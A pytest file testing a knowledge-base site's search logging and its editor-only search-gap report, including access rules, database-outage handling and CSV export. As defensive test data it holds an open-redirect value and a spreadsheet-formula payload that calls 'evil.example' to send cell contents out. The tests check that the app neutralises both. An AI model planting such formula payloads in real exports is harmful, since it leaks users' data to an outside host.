"""Search gaps on the web: searches and opened results are logged, /reports/search shows them to editors.

A real database made by the migrations (SQLite and PostgreSQL, the fixtures of tests/accounts)
and the real index of the sample content.
"""

from __future__ import annotations

import csv
import html
import io
import re
from urllib.parse import parse_qs, urlsplit

import pytest
from sqlalchemy import select

from kb.accounts.models import db
from kb.health.searchlog import SearchClick, SearchEntry

from ..accounts import conftest as accounts
from ..accounts.test_database_down import Outage

postgres_server, database_url, new_app, app, auth = accounts.postgres_server, accounts.database_url, accounts.new_app, accounts.app, accounts.auth
RESULT_LINK = re.compile(r'<h3 class="usa-collection__heading"><a class="usa-link" href="([^"]+)">')


@pytest.fixture
def settings() -> dict:
    return {"SEARCH_LOG_INTERVAL": 3600}  # the writer thread sleeps: each test writes the buffer when it wants


def text(response) -> str:
    return response.get_data(as_text=True)


def logged(app) -> tuple[list[SearchEntry], list[SearchClick]]:
    """Everything logged so far (this process's buffer written first)."""
    app.extensions["kb.searchlog"].flush()
    with app.app_context():
        searches = db.session.scalars(select(SearchEntry).order_by(SearchEntry.at)).all()
        clicks = db.session.scalars(select(SearchClick).order_by(SearchClick.at)).all()
        db.session.expunge_all()
        return searches, clicks


def result_links(response) -> list[str]:
    return [html.unescape(href) for href in RESULT_LINK.findall(text(response))]


def test_a_search_is_logged_and_its_results_open_through_a_counting_link(app, client):
    page = client.get("/search?q=Letter++of+REQUEST&type=article")
    links = result_links(page)
    assert links, "no results"
    first = urlsplit(links[1])
    args = {k: v[0] for k, v in parse_qs(first.query).items()}
    assert first.path == "/search/open" and args["rank"] == "2" and args["type"] == "article"
    opened = client.get(links[1])
    assert opened.status_code == 302 and opened.headers["Location"] == f"/articles/{args['id']}"
    assert opened.headers["Cache-Control"] == "no-store"
    [search], [click] = logged(app)
    assert (search.id, search.query, search.filters, search.source, search.page) == (args["sid"], "letter of request", "type=article", "page", 1)
    assert search.results > 1 and search.area is None
    assert (click.search_id, click.rank, click.doc, click.area) == (search.id, 2, f"article:{args['id']}", "fms")


def test_later_pages_carry_their_ranks(app, client):
    links = result_links(client.get("/search?q=letter&per_page=1&page=2"))
    assert parse_qs(urlsplit(links[0]).query)["rank"] == ["2"]
    assert [s.page for s in logged(app)[0]] == [2]


@pytest.mark.parametrize(
    "query",
    [
        "type=http&id=//evil.example/x",
        "type=article&id=no/such-article",
        "type=article&id=eum/internal-checklist",  # staff only: not for this reader
        "type=&id=",
        "id=fms/letter-of-request",
    ],
)
def test_the_opening_link_leads_only_to_documents_the_reader_may_see(app, client, query):
    response = client.get(f"/search/open?sid={'a' * 32}&rank=1&{query}")
    assert response.status_code == 404 and "Location" not in response.headers
    assert logged(app) == ([], [])


def test_an_implausible_opening_still_opens_the_document_and_counts_nothing(app, client):
    response = client.get("/search/open?sid=../../x&rank=-3&type=glossary&id=LOA")
    assert response.status_code == 302 and response.headers["Location"] == "/glossary#term-loa"
    assert logged(app) == ([], [])


def test_the_api_logs_its_searches_suggestions_and_empty_queries_are_not_logged(app, client):
    found = client.get("/api/search?q=golden+sentry&area=eum").get_json()
    assert [r["id"] for r in found["results"]] == ["eum/golden-sentry"] and found["total"] == 1 and len(found["search_id"]) == 32
    client.get("/api/suggest?q=gol")
    client.get("/search?q=")
    client.get("/search?area=fms")  # a filter without words: the page runs no search, nothing is logged
    client.head("/search?q=monitoring")  # a link checker, not a reader
    [search], _ = logged(app)
    assert (search.id, search.query, search.source, search.area, search.filters, search.results) == (
        found["search_id"],
        "golden sentry",
        "api",
        "eum",
        "area=eum",
        1,
    )


def test_a_misspelling_shown_corrected_still_counts_as_found_nothing(app, client, auth):
    """ "Showing results for …" answers the reader, but the words as typed are the gap editors need to see."""
    page = text(client.get("/search?q=goldne+sentyr"))
    assert "Showing results for" in page and "golden sentry" in page
    [search], _ = logged(app)
    assert search.results >= 1 and search.typed_results == 0
    auth.login("ed@example.mil")
    data = client.get("/reports/search?format=json").get_json()
    assert {"query": "goldne sentyr", "searches": 1, "empty": 1, "opened": 0, "results": 0, "corrected": 1} in data["zero_results"]
    report = text(client.get("/reports/search"))
    assert re.search(r"<th scope=\"row\">goldne sentyr</th><td>1</td><td>1</td><td>0</td><td>0</td><td>1</td>", report)


def test_searches_go_on_when_the_database_is_down(app, client, database_url, request, caplog):
    outage = Outage(app, database_url, request)
    outage.begin()
    try:
        page = client.get("/search?q=LOA")
        assert page.status_code == 200 and "5 results for “LOA”" in page.get_data(as_text=True)
        assert client.get("/api/search?q=quokkazebra").get_json()["total"] == 0
        assert app.extensions["kb.searchlog"].flush() == 0  # the batch waits, and that is said
        assert "search log: 2 entries not written yet, kept to try again" in caplog.text
    finally:
        outage.end()
    client.get("/search?q=after")
    assert [s.query for s in logged(app)[0]] == ["loa", "quokkazebra", "after"]  # nothing lost (queries are kept folded)
    assert "the database is back; 3 waiting entries written" in caplog.text


@pytest.mark.parametrize(("email", "status"), [(None, 404), ("rita@example.mil", 404), ("ed@example.mil", 200), ("ada@example.mil", 200)])
def test_the_report_is_for_editors_and_admins(client, auth, email, status):
    if email:
        auth.login(email)
    response = client.get("/reports/search")
    assert response.status_code == status
    if status == 200:
        assert response.headers["Cache-Control"] == "private, no-store"


def test_an_editor_sees_what_to_write_next(app, client, auth):
    client.get("/search?q=xylophonequartz")
    client.get("/search?q=Xylophonequartz")
    client.get("/search?q=quokkazebra&area=eum")
    client.get("/search?q=golden+sentry")  # found, nothing opened
    client.get(result_links(client.get("/search?q=letter+of+request"))[0])  # found and opened
    auth.login("ed@example.mil")
    page = text(client.get("/reports/search"))
    zero = page.split('id="zero-results"')[1].split('id="not-opened"')[0]
    assert '<th scope="row">xylophonequartz</th><td>2</td>' in zero and "quokkazebra" in zero
    assert 'href="/search?q=xylophonequartz"' in zero
    unopened = page.split('id="not-opened"')[1].split('id="top-queries"')[0]
    assert "golden sentry" in unopened and "letter of request" not in unopened and 'href="/search?q=golden+sentry"' in unopened
    assert "<caption" in page and 'scope="col"' in page and "selected>2026-W" in page
    assert re.search(r'in the week of <time datetime="\d{4}-\d\d-\d\d">\d{1,2} [A-Z][a-z]+ \d{4}</time>', page)
    eum = text(client.get("/reports/search?area=eum"))
    assert "quokkazebra" in eum and "xylophonequartz" not in eum and 'href="/search?q=quokkazebra&amp;area=eum"' in eum
    csv = client.get("/reports/search?format=csv")
    assert csv.mimetype == "text/csv" and ",zero-results,xylophonequartz,2,2,0,0" in text(csv)
    as_json = client.get("/reports/search?format=json&week=2020-W01").get_json()
    assert as_json["week"] == "2020-W01" and as_json["top"] == []


FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"open")', "@XYZZY(1+1)", "+1+cmd", "-2+3"]  # the search trims tabs


def test_the_csv_report_never_hands_a_spreadsheet_a_formula(app, client, auth):
    """Anonymous searches put =HYPERLINK(...) into the lists: every such cell starts with a quote (web and command line)."""
    for query in [*FORMULAS, "xylophonequartz"]:
        assert client.get("/search", query_string={"q": query}).status_code == 200
    auth.login("ed@example.mil")
    from_web = text(client.get("/reports/search?format=csv"))
    from_cli = app.test_cli_runner().invoke(args=["kb", "report", "search", "--format", "csv"]).output
    for document in (from_web, from_cli):
        queries = {row["query"] for row in csv.DictReader(io.StringIO(document)) if row["list"] == "zero-results"}
        assert "xylophonequartz" in queries
        formulas = queries - {"xylophonequartz"}
        assert len(formulas) == len(FORMULAS) and all(query.startswith("'") and query[1] in "=@+-" for query in formulas), queries
        assert "'=hyperlink(" in document.lower()


@pytest.mark.parametrize(
    ("args", "message"),
    [
        ("week=bogus", "&#39;bogus&#39; is not an ISO week: write YYYY-Www, e.g. 20"),
        ("week=2026-W99", "&#39;2026-W99&#39; is not an ISO week"),
        ("area=nosuch", "&#39;nosuch&#39; is not a functional area. Choose from: "),
    ],
)
def test_a_bad_week_or_area_is_said_with_the_valid_choices(client, auth, args, message):
    """As ``kb report search --week bogus`` exits 2: the page says what is wrong and what to choose."""
    auth.login("ed@example.mil")
    page = client.get(f"/reports/search?{args}")
    assert page.status_code == 400 and message in text(page) and 'role="alert"' in text(page)
    if args.startswith("area"):
        assert "eum" in text(page).split("Choose from: ")[1].split(".")[0].split(", ")
    as_csv = client.get(f"/reports/search?{args}&format=csv")
    assert as_csv.status_code == 400 and html.unescape(message) in text(as_csv)
    assert client.get("/reports/search?week=2026-W49&area=eum").status_code == 200
